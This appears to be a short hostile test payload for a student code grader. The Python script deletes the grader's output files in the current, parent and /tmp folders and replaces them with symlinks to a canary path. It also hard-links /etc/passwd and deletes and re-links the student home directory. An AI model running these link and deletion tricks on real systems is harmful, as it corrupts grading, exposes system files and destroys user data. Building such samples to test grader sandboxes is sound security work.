"""Replaces files in its scratch by links to files of the host, for a grader that reads or deletes them afterwards."""

# %% own
import contextlib, os, shutil

for name in ("averages.ipynb", "connection.json", "results.json", "feedback.html"):
    for folder in (".", "..", "/tmp"):
        with contextlib.suppress(OSError):
            os.path.lexists(f"{folder}/{name}") and os.unlink(f"{folder}/{name}")
            os.symlink(CANARY, f"{folder}/{name}")
with contextlib.suppress(OSError):
    os.link("/etc/passwd", "hard")
shutil.rmtree("/home/student/home", ignore_errors=True)
with contextlib.suppress(OSError):
    os.symlink(os.path.dirname(CANARY), "/home/student/home")
